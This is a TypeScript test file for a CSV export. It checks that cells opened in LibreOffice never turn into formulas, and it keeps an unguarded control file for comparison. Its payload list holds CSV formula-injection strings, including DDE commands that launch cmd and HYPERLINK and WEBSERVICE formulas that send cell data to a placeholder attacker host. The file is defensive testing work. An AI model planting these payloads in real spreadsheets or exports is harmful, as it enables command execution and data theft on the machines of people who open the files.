import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { csvFile, harmless } from '#app/documents/csv.ts'
import { hostileTexts } from '#app/documents/specimens.ts'
import { planTable } from '#app/features/plans/plan-table.ts'
import { aPlanOf } from '#app/features/plans/specimens.ts'
import { hasOffice, openFolder } from './office.ts'
import { words } from './plans.ts'

/** Formulas and commands as they are written to be opened by somebody else, before and after what may stand unseen in a cell. */
const starts = ['', ' ', '\u00a0', '\u3000', '\t', '\n', '\u200b', '"', "'", ';', ',']
const bodies = [
	'=1+1',
	'=HYPERLINK("http://evil.example/?x="&A1,"click")',
	'=WEBSERVICE("http://evil.example/")',
	'=DDE("cmd";"/C calc";"x")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'+SUM(1;2)',
	'-2+3',
	"-2+3+cmd|' /C calc'!A0",
	'@SUM(1+1)',
	'%0A=1+1',
	"|cmd|' /C calc'!A0",
	'＝1+1',
	'＋1+1',
	'－1+1',
	'＠SUM(1)',
]
const typed = [
	...starts.flatMap((start) => bodies.map((body) => `${start}${body}`)),
	...['\u0000=1+1', '\u0001=1+1', '\u001b+1+1', '\r=1+1', '\ufeff=1+1', '1,=1+1', '1;=1+1', '1\n=1+1', '"\n=1+1'],
	...Object.values(hostileTexts).filter((text) => text.length < 1000),
]

/** As a spreadsheet opens a file that somebody clicks: separated by commas, in quotes, UTF-8, formulas allowed. */
const openAsCsv = '--infilter=CSV:44,34,76,1,,2057,false,true,false,false,false,-1,true'

type Cell = { readonly text: string; readonly isFormula: boolean }

/** The cells of a flat spreadsheet (fods), a list a row. */
function cellsOf(xml: string): Cell[][] {
	const [, table = ''] = /<table:table [^>]*>([\s\S]*?)<\/table:table>/.exec(xml) ?? []
	return [...table.matchAll(/<table:table-row\b[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row = '']) =>
		[...row.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map(
			([, attributes = '', inside = '']) => ({
				isFormula: attributes.includes('table:formula='),
				text: [...inside.matchAll(/<text:p>([\s\S]*?)<\/text:p>|<text:p\/>/g)].map(([, line = '']) => plain(line)).join('\n'),
			}),
		),
	)
}

const entities: Readonly<Record<string, string>> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }

function plain(line: string): string {
	return line
		.replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count?: string) => ' '.repeat(Number(count ?? 1)))
		.replace(/<[^>]+>/g, '')
		.replace(/&(?:#(x?)([\da-f]+)|(\w+));/gi, (_, hex: string, code: string, name: string) =>
			name ? (entities[name] ?? '') : String.fromCodePoint(parseInt(code, hex ? 16 : 10)),
		)
}

let folder: Awaited<ReturnType<typeof openFolder>>
const opened = new Map<string, Cell[][]>()
const files: Readonly<Record<string, Uint8Array>> = {
	guarded: csvFile({ columns: ['Number', 'Typed', 'End'], rows: typed.map((text, index) => [index, text, 'end']) }).bytes,
	bare: new TextEncoder().encode(
		`"Number","Typed","End"\r\n${typed.map((text, index) => `${index},"${text.replaceAll('"', '""')}","end"`).join('\r\n')}\r\n`,
	),
	plan: csvFile(planTable(aPlanOf(200), words)).bytes,
}

beforeAll(async () => {
	folder = await openFolder()
	if (!hasOffice) return
	for (const [name, bytes] of Object.entries(files)) await folder.write(`${name}.csv`, bytes)
	await folder.convert(
		Object.keys(files).map((name) => `${name}.csv`),
		'fods',
		openAsCsv,
	)
	for (const name of Object.keys(files)) opened.set(name, cellsOf((await folder.read(`${name}.fods`)).toString('utf8')))
}, 180_000)
afterAll(() => folder.close())

describe.skipIf(!hasOffice)('a table as LibreOffice opens it (skipped where it is not installed)', () => {
	const rowsOf = (name: string) => (opened.get(name) ?? []).slice(1)
	const formulasIn = (name: string) => rowsOf(name).filter((row) => row.some(({ isFormula }) => isFormula))

	test('there is a lot to try', () => {
		expect(typed.length).toBeGreaterThan(150)
	})

	test('nothing that somebody typed becomes a formula', () => {
		expect(formulasIn('guarded')).toEqual([])
	})

	test('control: without the apostrophe much of it does', () => {
		const run = formulasIn('bare').map(([number]) => typed[Number(number?.text)])
		expect(run).toEqual(expect.arrayContaining(bodies.filter((body) => body.startsWith('='))))
	})

	test('no text is lost: each stands in its own row, whole, and nothing ran over into the next cell', () => {
		const rows = rowsOf('guarded')
		expect(rows).toHaveLength(typed.length)
		// Spaces at the ends and characters without width are how a spreadsheet shows a cell, not what it holds.
		const shown = (text: string) => text.replace(/[\p{Cf}\s]+/gu, ' ').trim()
		rows.forEach(([number, text, end], index) => {
			expect(number?.text).toBe(String(index))
			expect(shown(text?.text ?? '')).toBe(
				shown(new TextDecoder().decode(new TextEncoder().encode(harmless(typed[index] as string)))),
			)
			expect(end?.text).toBe('end')
		})
	})

	test('a plan of 200 changes has 200 rows under its headings, with its pounds as numbers', () => {
		const [headings, ...rows] = opened.get('plan') ?? []
		expect(headings?.map(({ text }) => text)).toEqual(planTable(aPlanOf(1), words).columns)
		expect(rows).toHaveLength(200)
		const pounds = headings?.findIndex(({ text }) => text === 'Cost in pounds') ?? -1
		expect(rows[0]?.[pounds]?.text).toBe('45')
		expect(formulasIn('plan')).toEqual([])
	})
})
